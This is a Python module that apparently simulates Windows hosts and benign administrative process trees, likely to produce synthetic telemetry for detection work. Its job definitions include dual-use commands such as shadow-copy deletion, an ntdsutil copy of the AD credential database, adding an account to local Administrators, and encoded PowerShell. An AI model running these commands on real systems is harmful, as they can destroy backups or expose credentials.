"""Windows: hosts, benign operations and gangs. A body is an indented tree of command lines:
[{options}] command line ; deeper lines are its children. Options: dur=S p=PCT a (parent goes on) path=P if=FACT n=K con (own console)"""
import re
from sim import *
from hosts import Host
S32 = 'C:\\Windows\\System32\\'
PATHS = {}
for x in 'cmd conhost net net1 sc schtasks tasklist taskkill whoami ipconfig systeminfo netsh reg regsvr32 rundll32 mshta wscript cscript certutil bitsadmin msiexec powercfg vssadmin wevtutil bcdedit nltest quser query ping nslookup netstat arp route hostname icacls attrib takeown find findstr more xcopy robocopy timeout choice gpupdate gpresult dism sfc wusa dllhost taskhostw svchost services lsass winlogon userinit spoolsv wbadmin diskshadow ftp curl tar chcp cacls shutdown fsutil driverquery setx where runas wuauclt usoclient SppExtComObj sihost RuntimeBroker backgroundTaskHost smartscreen ctfmon consent LogonUI dwm fontdrvhost rdpclip tstheme atbroker WerFault mavinject makecab expand cipher klist dsquery dsregcmd werfault sdbinst defrag cleanmgr notepad mstsc compattelrunner CompatTelRunner DeviceCensus MusNotification wsqmcons SearchProtocolHost SearchFilterHost appcmd'.split():
    PATHS[x.lower() + '.exe'] = S32 + x + '.exe'
PATHS['wmic.exe'] = S32 + 'wbem\\WMIC.exe'; PATHS['wmiprvse.exe'] = S32 + 'wbem\\WmiPrvSE.exe'
PATHS['powershell.exe'] = S32 + 'WindowsPowerShell\\v1.0\\powershell.exe'; PATHS['explorer.exe'] = 'C:\\Windows\\explorer.exe'; PATHS['appcmd.exe'] = S32 + 'inetsrv\\appcmd.exe'; PATHS['w3wp.exe'] = S32 + 'inetsrv\\w3wp.exe'
PATHS['csc.exe'] = 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe'; PATHS['cvtres.exe'] = 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\cvtres.exe'
GUI = {'explorer.exe', 'rundll32.exe', 'regsvr32.exe', 'mshta.exe', 'wscript.exe', 'msiexec.exe', 'svchost.exe', 'dllhost.exe', 'taskhostw.exe', 'w3wp.exe', 'wmiprvse.exe', 'services.exe', 'userinit.exe', 'notepad.exe', 'mstsc.exe', 'consent.exe', 'smartscreen.exe', 'runtimebroker.exe', 'backgroundtaskhost.exe', 'ctfmon.exe', 'sihost.exe', 'werfault.exe', 'searchprotocolhost.exe', 'searchfilterhost.exe', 'dwm.exe', 'logonui.exe', 'winlogon.exe', 'tstheme.exe', 'rdpclip.exe', 'atbroker.exe', 'wusa.exe', 'usoclient.exe', 'cleanmgr.exe', 'compattelrunner_.exe'}
CONS = {'cmd.exe', 'powershell.exe', 'net.exe', 'net1.exe', 'sc.exe', 'schtasks.exe', 'tasklist.exe', 'taskkill.exe', 'whoami.exe', 'ipconfig.exe', 'systeminfo.exe', 'netsh.exe', 'reg.exe', 'certutil.exe', 'cscript.exe', 'vssadmin.exe', 'wevtutil.exe', 'bcdedit.exe', 'wmic.exe', 'nltest.exe', 'ping.exe', 'netstat.exe', 'curl.exe', 'csc.exe', 'icacls.exe', 'attrib.exe', 'defrag.exe', 'robocopy.exe', 'wbadmin.exe', 'sqlcmd.exe', 'ftp.exe', 'bitsadmin.exe'}

_tc = {}
def tree(text):
    r = _tc.get(text)
    if r is None:
        root = []; stack = [(-1, root)]; count = {}
        for line in text.split('\n'):
            if not line.strip(): continue
            ind = len(line) - len(line.lstrip()); s = line.strip(); opt = {}
            m = re.match(r'\{([^}]*)\}\s*', s)
            if m:
                for o in m.group(1).split():
                    k, _, v = o.partition('='); opt[k] = v
                s = s[m.end():]
            k = s; count[k] = count.get(k, 0) + 1
            if count[k] > 1: k += '#%d' % count[k]
            node = (s, opt, [], k)
            while stack[-1][0] >= ind: stack.pop()
            stack[-1][1].append(node); stack.append((ind, node[2]))
        r = _tc[text] = root
    return r

def wpath(cmd):
    m = re.match(r'"([^"]+)"', cmd); a = m.group(1) if m else cmd.split()[0]
    b = a.rsplit('\\', 1)[-1].lower()
    if '\\' in a: return (a, b) if re.search(r'\.\w{2,4}$', b) else (a + '.exe', b + '.exe')
    if not b.endswith('.exe'): b += '.exe'
    return PATHS.get(b, S32 + b), b

def wrun(ctx, par, t, nodes, scene, console=False, human=False):
    rng = ctx.rng
    for i, (s, opt, kids, key) in enumerate(nodes):
        if human and i: t += rng.uniform(2, 35)
        if 'p' in opt and rng.random() * 100 >= float(opt['p']): continue
        if 'if' in opt and not (ctx.facts.get(opt['if']) or ctx.h.facts.get(opt['if'])): continue
        if 'sleep' in opt:
            a, _, b = opt['sleep'].partition('-'); t += rng.uniform(float(a), float(b or a))
            if s == '-': 
                if t >= ctx.deadline: raise Stop
                continue
        for _ in range(int(opt.get('n', 1))):
            path, base = wpath(ctx.sub(s))
            if 'path' in opt: path = ctx.sub(opt['path'].replace('%20', ' '))
            t += 0.004 + rng.random() * 0.02
            p = sim_spawn(ctx, par, t, path, s, scene, key)
            con = console
            tt = t + 0.006
            if base in CONS and not console or 'con' in opt:
                q = sim_spawn(ctx, p, tt, S32 + 'conhost.exe', ctx.h.conhost, scene, key + '>conhost'); con = True
            else: q = None
            d = float(opt['dur']) if 'dur' in opt else 0.02 + rng.expovariate(1 / 0.06)
            if base in ('powershell.exe', 'pwsh.exe') and 'dur' not in opt: d += 0.6
            try:
                e = wrun(ctx, p, tt + 0.01 + rng.random() * 0.03, kids, scene, con, 'h' in opt)
            except Stop:
                setend(p, ctx.deadline); raise
            e = max(t + d, e + 0.005)
            setend(p, e)
            if q: setend(q, e + 0.002)
            if 'a' not in opt: t = e
    return t

class WinHost(Host):
    is_win = True
    def __init__(s, name, role, rng):
        Host.__init__(s, name, role, 'win', rng)
        s.conhost = rng.choice(('\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', '\\??\\C:\\Windows\\system32\\conhost.exe 0x4'))
        s.pathparent = rng.random() < 0.8
        s.user = rng.choice(('a.meier', 'jsmith', 'p.dubois', 'l.rossi', 'kchen', 'n.patel', 'tnovak', 's.berg', 'm.okafor', 'h.tanaka'))
    def adopter(s, par, t): return None
    def link(s, x): return x
    def setup(s, services, t_end):
        s.t_end = t_end
        for b, t in enumerate(s.boots):
            d = {}
            system = s.prep('System', 'system', t, 4) if b == 0 else s.svcs[0]['init']
            d['init'] = system
            sv = P(Task(t, t_end), 'b', t, S32 + 'services.exe', '', None, None); s.pre.append(sv); d['services'] = sv
            wl = P(Task(t, t_end), 'b', t, S32 + 'winlogon.exe', '', None, None); s.pre.append(wl); d['winlogon'] = wl
            ss = P(Task(t, t_end), 'b', t, S32 + 'smss.exe', '', None, None); s.pre.append(ss); d['smss'] = ss
            tt = t + s.rng.uniform(8, 14)
            for n, (path, cmd) in services.items():
                if b == 0 or s.rng.random() < 0.4:
                    p = P(Task(t if b == 0 else tt, t_end), 'b', t if b == 0 else tt, path, cmd, None, None); s.pre.append(p)
                else:
                    p = P(Task(tt, t_end), 'x', tt, path, cmd.replace('@R:uuidh@', randval('uuidh', s.rng)), sv, sv); s.procs.append(p)
                d[n] = p; tt += s.rng.uniform(0.05, 0.5)
            s.svcs.append(d)
        s.dyn = {}
        s.sess = []
        if 'explorer' in services:
            for d in range(int(t_end // DAY) + 1):
                if s.rng.random() < .2: continue
                t = d * DAY + s.rng.gauss(8.2, 1.1) * 3600
                if 300 < t < t_end - 600 and not any(b - 60 < t < b + 120 for b in s.boots[1:]): s.logon(t, services, min(t + s.rng.uniform(4, 11) * 3600, s.deadline(t)))
    def logon(s, t, services, t1):
        rng = s.rng; wl = s.svcs[s.boot_i(t)]['winlogon']; d = {'t': t, 't1': t1}
        def ev(par, t, path, cmd, end):
            p = P(Task(t), 'x', t, path, cmd.replace('@WUSER@', s.user), par, par); setend(p, min(end, s.deadline(t))); s.procs.append(p); return p
        if rng.random() < .3:      # an RDP or second session has a winlogon of its own
            sm = ev(s.svcs[s.boot_i(t)]['smss'], t - 2, S32 + 'smss.exe', '\\SystemRoot\\System32\\smss.exe 000000d%d 00000084' % rng.randint(0, 9), t - 1)
            ev(sm, t - 1.8, S32 + 'csrss.exe', '%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768 Windows=On SubSystemType=Windows', t1)
            wl = ev(sm, t - 1.5, S32 + 'winlogon.exe', 'winlogon.exe', t1)
        ui = ev(wl, t, S32 + 'userinit.exe', 'C:\\Windows\\system32\\userinit.exe', t + 12)
        ex = ev(ui, t + .4, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', t1); d['explorer'] = ex
        ev(s.svcs[s.boot_i(t)]['dcom'], t + .6, S32 + 'sihost.exe', 'sihost.exe', t1)
        tt = t + 5
        for n in ('office', 'chrome', 'code'):
            if n in services: tt += rng.uniform(1, 60); d[n] = ev(ex, tt, services[n][0], services[n][1], t1)
        for c in ('"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background', '"C:\\Windows\\System32\\SecurityHealthSystray.exe"', '"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe" -n vmusr'):
            if rng.random() < .6: tt += rng.uniform(.1, 5); ev(ex, tt, wpath(c)[0], c, t1)
        s.sess.append(d)
    def svc(s, name, t):
        if name in ('explorer', 'office', 'chrome', 'code'):
            b = s.boots[s.boot_i(t)]
            for d in reversed(s.sess):
                if d['t'] + 120 < t < d['t1'] and d['t'] >= b and name in d: return d[name]
        if name in ('wmi', 'winrm', 'w3wp') and name in s.svcs[0]:
            keep = {'wmi': 90, 'winrm': 30, 'w3wp': 100000}[name]
            l = s.dyn.setdefault(name, [])
            for e in l:
                if e[0] <= t <= e[1] - 1 and s.boot_i(e[0]) == s.boot_i(t): return e[2]
            if name == 'w3wp' and s.rng.random() < .6: return s.svcs[s.boot_i(t)][name]
            path, cmd = s.svcmap[name]; dc = s.svcs[s.boot_i(t)]['dcom']; t0 = t - s.rng.uniform(.05, .6)
            if name == 'w3wp': t0 = max(s.boots[s.boot_i(t)] + 60, t - s.rng.uniform(60, 20000))
            if t0 <= dc.t + 1 or t0 < 1: return s.svcs[s.boot_i(t)][name]
            p = P(Task(t0), 'x', t0, path, cmd.replace('@R:uuidh@', randval('uuidh', s.rng)), dc, dc); setend(p, min(t + keep, s.deadline(t0))); s.procs.append(p); l.append((t0, p.end, p))
            return p
        return s.svcs[s.boot_i(t)].get(name)

SV = 'C:\\Windows\\System32\\svchost.exe'
WBASE = {'sched': (SV, SV.replace('S', 's', 1) if False else 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule'), 'dcom': (SV, 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p'), 'wmi': (S32 + 'wbem\\WmiPrvSE.exe', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding'),
  'gpsvc': (SV, 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s gpsvc'), 'wuau': (SV, 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wuauserv'), 'term': (SV, 'C:\\Windows\\System32\\svchost.exe -k termsvcs -s TermService'), 'search': ('C:\\Windows\\System32\\SearchIndexer.exe', 'C:\\Windows\\system32\\SearchIndexer.exe /Embedding'),
  'falcon': ('C:\\Program Files\\CrowdStrike\\CSFalconService.exe', '"C:\\Program Files\\CrowdStrike\\CSFalconService.exe"'), 'ccm': ('C:\\Windows\\CCM\\CcmExec.exe', 'C:\\Windows\\CCM\\CcmExec.exe'), 'winrm': (S32 + 'wsmprovhost.exe', 'C:\\Windows\\system32\\wsmprovhost.exe -Embedding'), 'qualysw': ('C:\\Program Files\\Qualys\\QualysAgent\\QualysAgent.exe', '"C:\\Program Files\\Qualys\\QualysAgent\\QualysAgent.exe"'), 'zabbixw': ('C:\\Program Files\\Zabbix Agent 2\\zabbix_agent2.exe', '"C:\\Program Files\\Zabbix Agent 2\\zabbix_agent2.exe" -c "C:\\Program Files\\Zabbix Agent 2\\zabbix_agent2.conf" -f=false')}
EXPL = {'explorer': ('C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE')}
SQL = {'sql': ('C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe', '"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe" -sMSSQLSERVER'), 'sqlagent': ('C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\SQLAGENT.EXE', '"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\SQLAGENT.EXE" -i MSSQLSERVER')}
W3 = {'w3wp': (S32 + 'inetsrv\\w3wp.exe', 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll" -a \\\\.\\pipe\\iisipm@R:uuidh@ -h "C:\\inetpub\\temp\\apppools\\DefaultAppPool\\DefaultAppPool.config" -w "" -m 0')}
WROLES = [
 ('wks', 30, {**WBASE, **EXPL, 'office': ('C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"'), 'chrome': ('C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"'), 'intune': ('C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Microsoft.Management.Services.IntuneWindowsAgent.exe', '"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Microsoft.Management.Services.IntuneWindowsAgent.exe"')}, 'user smb'),
 ('vdi', 12, {**WBASE, **EXPL, 'chrome': ('C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"'), 'office': ('C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"')}, 'user smb'),
 ('dev', 8, {**WBASE, **EXPL, 'code': ('C:\\Program Files\\Microsoft VS Code\\Code.exe', '"C:\\Program Files\\Microsoft VS Code\\Code.exe"'), 'chrome': ('C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"')}, 'user dev'),
 ('sql', 12, {**WBASE, **SQL}, 'sql smb'),
 ('iis', 10, {**WBASE, **W3}, 'iis smb'),
 ('exch', 5, {**WBASE, 'w3wp': (S32 + 'inetsrv\\w3wp.exe', 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangeOWAAppPool" -v "v4.0" -c "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config"'), 'exhealth': ('C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeHMWorker.exe', 'MSExchangeHMWorker.exe')}, 'exch iis'),
 ('dc', 4, {**WBASE}, 'dc'),
 ('rds', 7, {**WBASE, **EXPL}, 'rdp user smb'),
 ('file', 6, {**WBASE}, 'rdp smb'),
 ('javaw', 5, {**WBASE, 'tomcatw': ('C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\bin\\Tomcat9.exe', '"C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\bin\\Tomcat9.exe" //RS//Tomcat9')}, 'javaw smb'),
]
JOBS = []
def J(name, roles, period, weight, svc, body): JOBS.append((name, set(roles.split()) if roles else None, period, weight, svc, body.strip('\n'), {}))
J('task-usage', '', 14400, 5, 'sched', 'taskhostw.exe\n{dur=20} taskhostw.exe Install $(Arg0)\n{p=50} C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\invagent.dll,RunUpdate -noappraiser\n{p=50 dur=8} C:\\Windows\\system32\\compattelrunner.exe\n  {dur=5} C:\\Windows\\system32\\compattelrunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun -cv:@R:rnd16@.1')
J('defrag', '', 86400, 2, 'sched', '{dur=120} C:\\Windows\\system32\\defrag.exe -c -h -o -$')
J('wmi-host', '', 3600, 6, 'dcom', '{dur=90} C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding\n{dur=6} C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}')
J('broker', 'wks vdi dev rds', 1800, 8, 'dcom', '{dur=20 a} C:\\Windows\\System32\\RuntimeBroker.exe -Embedding\n{dur=5} "C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca\n{p=50 dur=4} C:\\Windows\\System32\\smartscreen.exe -Embedding')
J('search', 'wks vdi dev rds', 2400, 6, 'search', '{dur=60 a} "C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe@R:d3@_ Global\\UsGthrCtrlFltPipeMssGthrPipe@R:d3@ 1 -2147483646 "Software\\Microsoft\\Windows Search"\n{dur=60} "C:\\Windows\\system32\\SearchFilterHost.exe" 0 @R:d3@ @R:d3@ @R:d3@ 8192 @R:d3@')
J('chrome', 'wks vdi dev', 1800, 10, 'chrome', '{dur=300 a} "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=@R:d2@ --launch-time-ticks=@R:int@ --field-trial-handle=1840,i,@R:int@,262144\n{dur=200 a p=50} "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none')
J('gupdate', 'wks dev vdi', 10800, 5, 'sched', '{dur=9} "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe" /ua /installsource scheduler\n  "C:\\Program Files (x86)\\Google\\Update\\1.3.36.372\\GoogleCrashHandler.exe"\n{p=20 dur=4} "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe" /c')
J('onedrive', 'wks vdi', 43200, 4, 'sched', '{dur=10} "C:\\Users\\@WUSER@\\AppData\\Local\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe"')
J('officec2r', 'wks vdi', 43200, 4, 'sched', '{dur=20} "C:\\Program Files\\Common Files\\Microsoft Shared\\ClickToRun\\OfficeC2RClient.exe" /frequentupdate SCHEDULEDTASK displaylevel=False')
J('outlook', 'wks vdi', 5400, 7, 'office', '{dur=400 a} "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\@WUSER@\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\@R:rnd8@\\Offer @R:d4@.docx" /o ""\n  {dur=1} "C:\\Program Files\\Microsoft Office\\root\\VFS\\ProgramFilesCommonX64\\Microsoft Shared\\OFFICE16\\ai.exe" -ghost\n{p=60 dur=120} "C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe" "C:\\Users\\@WUSER@\\AppData\\Local\\Temp\\invoice_@R:d5@.pdf"\n  {dur=100} "C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\acrocef_1\\AcroCEF.exe" --backgroundcolor=16514043')
J('explorer', 'wks vdi dev rds', 3600, 7, 'explorer', '{dur=200 a} "C:\\Windows\\system32\\NOTEPAD.EXE" C:\\Users\\@WUSER@\\Desktop\\todo.txt\n{p=50 dur=100 a} "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" "\\\\files\\dept\\budget@R:d2@.xlsx"\n{p=40 dur=600 a} "C:\\Windows\\system32\\mstsc.exe" /v:srv@R:d2@\n{p=20 dur=60} "C:\\Windows\\system32\\cmd.exe" \n  ipconfig /all\n  ping srv@R:d2@\n  gpupdate /force')
J('ccm-inv', '', 21600, 6, 'ccm', '{dur=4} "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe" -NoLogo -Noninteractive -NoProfile -ExecutionPolicy Bypass "& \'C:\\Windows\\CCM\\SystemTemp\\@R:uuidh@.ps1\'"\n  {p=40} "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /noconfig /fullpaths @"C:\\Windows\\TEMP\\@R:rndl8@\\@R:rndl8@.cmdline"\n    C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 "/OUT:C:\\Windows\\TEMP\\RES@R:hex4@.tmp" "c:\\Windows\\Temp\\@R:rndl8@\\CSC@R:hex16@.TMP"')
J('ccm-app', 'wks vdi dev', 86400, 4, 'ccm', '{dur=30} "C:\\Windows\\System32\\msiexec.exe" /i "C:\\Windows\\ccmcache\\@R:rndl1@\\7z2301-x64.msi" /qn /norestart /l*v C:\\Windows\\Logs\\7zip.log REBOOT=ReallySuppress\n{dur=2 p=50} "C:\\Windows\\system32\\cmd.exe" /c "C:\\Windows\\ccmcache\\@R:rndl2@\\install.cmd"\n  taskkill /F /IM Teams.exe\n  reg add "HKLM\\SOFTWARE\\Policies\\Acme\\Viewer" /v NoUpdate /t REG_DWORD /d 1 /f\n  schtasks /Delete /TN "GoogleUpdateTaskMachineUA" /F\n  {dur=5} "C:\\Windows\\ccmcache\\1\\setup.exe" /S /norestart')
J('intune', 'wks', 14400, 5, 'intune', '{dur=6} "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\agentexecutor.exe" -powershell "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\@R:uuidh@.ps1" "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Results\\@R:uuidh@.output.txt" 60000\n  {dur=4} "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -executionPolicy bypass -file "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\@R:uuidh@.ps1"\n    {p=40} "C:\\Windows\\system32\\schtasks.exe" /query /tn "\\Corp\\Proactive"\n    {p=40} "C:\\Windows\\system32\\dsregcmd.exe" /status\n    {p=20} "C:\\Windows\\system32\\bitsadmin.exe" /transfer corp https://cdn.@ORG@.com/pkg/agent.msi C:\\Windows\\Temp\\agent.msi')
J('gpo-logon', 'wks vdi rds', 43200, 6, 'gpsvc', '{dur=3} "C:\\Windows\\system32\\gpscript.exe" /Startup\n  {dur=2} cmd /c "\\\\corp.local\\SysVol\\corp.local\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}\\Machine\\Scripts\\Startup\\map.bat"\n    net use S: \\\\files\\shared /persistent:no\n      C:\\Windows\\system32\\net1 use S: \\\\files\\shared /persistent:no\n    {p=50} net localgroup Administrators CORP\\helpdesk /add\n      C:\\Windows\\system32\\net1 localgroup Administrators CORP\\helpdesk /add\n    {p=50} reg import \\\\corp.local\\netlogon\\proxy.reg')
J('wuau', '', 43200, 4, 'wuau', '{dur=60} C:\\Windows\\servicing\\TrustedInstaller.exe\n{dur=30} C:\\Windows\\winsxs\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.17763.5328_none\\TiWorker.exe -Embedding\n{dur=10} "C:\\Windows\\system32\\wusa.exe" C:\\Windows\\SoftwareDistribution\\Download\\@R:hex32@\\Windows10.0-KB50@R:d5@-x64.cab /quiet /norestart')
J('defender', '', 14400, 5, 'services', '{dur=20} "C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.23110.3-0\\MpCmdRun.exe" SignatureUpdate -ScheduleJob -RestrictPrivileges -Reinvoke\n{dur=4 p=50} "C:\\Program Files\\Windows Defender\\MpCmdRun.exe" -IdleTask -TaskName WdCacheMaintenance')
J('sqlagent', 'sql', 3600, 12, 'sqlagent', '{dur=4} "C:\\Windows\\system32\\cmd.exe" /c "sqlcmd -E -S localhost -d master -Q "EXECUTE dbo.IndexOptimize @Databases = \'USER_DATABASES\'" -b"\n  {dur=3} "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE" -E -S localhost -d master -Q "EXECUTE dbo.IndexOptimize" -b\n{p=30 dur=3} "C:\\Program Files\\Microsoft SQL Server\\150\\DTS\\Binn\\DTExec.exe" /FILE "D:\\ssis\\load_@R:repo@.dtsx" /CHECKPOINTING OFF /REPORTING E\n{p=25} "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -EncodedCommand @R:b64_160@')
J('xpcmd', 'sql', 7200, 8, 'sql', '"C:\\Windows\\system32\\cmd.exe" /c dir /b D:\\import\\*.csv\n{p=60} "C:\\Windows\\system32\\cmd.exe" /c bcp sales.dbo.orders out \\\\files\\exp\\orders_@R:d4@.csv -T -c -t;\n  {dur=2 path=C:\\Program%20Files\\Microsoft%20SQL%20Server\\Client%20SDK\\ODBC\\170\\Tools\\Binn\\bcp.exe} bcp sales.dbo.orders out \\\\files\\exp\\orders.csv -T -c -t;\n{p=30} "C:\\Windows\\system32\\cmd.exe" /c powershell -c "Get-PSDrive D | select Free"\n  powershell -c "Get-PSDrive D | select Free"\n{p=30} "C:\\Windows\\system32\\cmd.exe" /c forfiles /p E:\\bak /s /m *.bak /d -7 /c "cmd /c del @path"\n  forfiles /p E:\\bak /s /m *.bak /d -7 /c "cmd /c del @path"\n    /c del "E:\\bak\\old_@R:d3@.bak"')
J('iis-app', 'iis', 5400, 8, 'w3wp', '{p=50} "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /t:library /utf8output /R:"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\root\\@R:hex8@\\@R:hex8@\\assembly\\dl3\\App.dll"\n  C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 "/OUT:C:\\Windows\\TEMP\\RES@R:hex4@.tmp" "c:\\Windows\\Microsoft.NET\\CSC@R:hex8@.TMP"\n{p=40 dur=2} "D:\\apps\\wkhtmltopdf\\bin\\wkhtmltopdf.exe" -q --page-size A4 D:\\temp\\inv@R:d6@.html D:\\temp\\inv@R:d6@.pdf\n{p=20} "C:\\Windows\\system32\\cmd.exe" /c echo %COMPUTERNAME% & ver')
J('iis-recycle', 'iis exch', 14400, 4, 'dcom', '{dur=9000} c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "@R:repo@" -v "v4.0" -l "webengine4.dll" -a \\\\.\\pipe\\iisipm@R:uuidh@ -h "C:\\inetpub\\temp\\apppools\\x.config" -w "" -m 0')
J('exhealth', 'exch', 3600, 9, 'exhealth', '"C:\\Windows\\system32\\cmd.exe" /c "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\TestProbe.cmd"\n{p=40} "C:\\Windows\\System32\\inetsrv\\appcmd.exe" list wps /xml\n{p=30 dur=6} "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -noninteractive -command "Get-MailboxDatabaseCopyStatus | ConvertTo-Json"')
J('dc', 'dc', 3600, 9, 'services', '"C:\\Windows\\system32\\dfsrdiag.exe" ReplicationState\n{p=50} "C:\\Windows\\system32\\dcdiag.exe" /test:replications /q\n{p=50} "C:\\Windows\\system32\\repadmin.exe" /replsummary\n{p=30} "C:\\Windows\\system32\\ntdsutil.exe" "ac i ntds" "ifm" "create full d:\\ifm" q q')
J('veeam', 'file sql dc exch iis javaw', 21600, 6, 'services', '{dur=30} "C:\\Windows\\Veeam\\Backup\\VeeamGuestHelper.exe" --snapshot\n  vssadmin list writers\n  {p=60} vssadmin list shadows\n  {p=20} vssadmin delete shadows /for=D: /oldest /quiet\n{p=30 dur=10} "C:\\Windows\\system32\\wbadmin.exe" start systemstatebackup -backupTarget:E: -quiet')
J('zabbixw', '', 3600, 6, 'zabbixw', 'powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\\Program Files\\Zabbix Agent 2\\scripts\\@R:rndl6@.ps1"\n{p=40} cmd /C "wmic logicaldisk get size,freespace,caption /format:csv"\n  wmic logicaldisk get size,freespace,caption /format:csv')
J('qualysw', '', 43200, 5, 'qualysw', 'wmic qfe list full /format:list\n{p=50} cmd.exe /c netstat -ano\n  netstat -ano\n"C:\\Windows\\system32\\auditpol.exe" /get /category:*\n{p=50} reg query HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /s\nnet accounts\n  C:\\Windows\\system32\\net1 accounts\n{p=50} bcdedit /enum\n{p=50} wevtutil gl Security\nschtasks /query /fo csv /v')
J('nessus-wmi', 'sql iis file dc javaw wks exch', 86400, 4, 'wmi', 'cmd.exe /c "tasklist /svc > C:\\Windows\\Temp\\nessus_@R:rnd8@.TMP"\n  tasklist /svc\ncmd.exe /c "netstat -ano > C:\\Windows\\Temp\\nessus_@R:rnd8@.TMP"\n  netstat -ano\ncmd.exe /c "powershell -command "Get-HotFix" > C:\\Windows\\Temp\\nessus_task_list@R:rnd8@.txt 2>&1"\n  powershell -command "Get-HotFix"\ncmd /c dir "C:\\Program Files (x86)" /s /b | findstr log4j\n  C:\\Windows\\system32\\cmd.exe  /S /D /c" dir "C:\\Program Files (x86)" /s /b"\n  findstr log4j')
J('falconw', '', 28800, 3, 'falcon', '{dur=3} "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoLogo -NonInteractive -ExecutionPolicy Bypass -EncodedCommand @R:b64_240@\n{p=40} cmd.exe /c netsh advfirewall show allprofiles\n  netsh advfirewall show allprofiles')
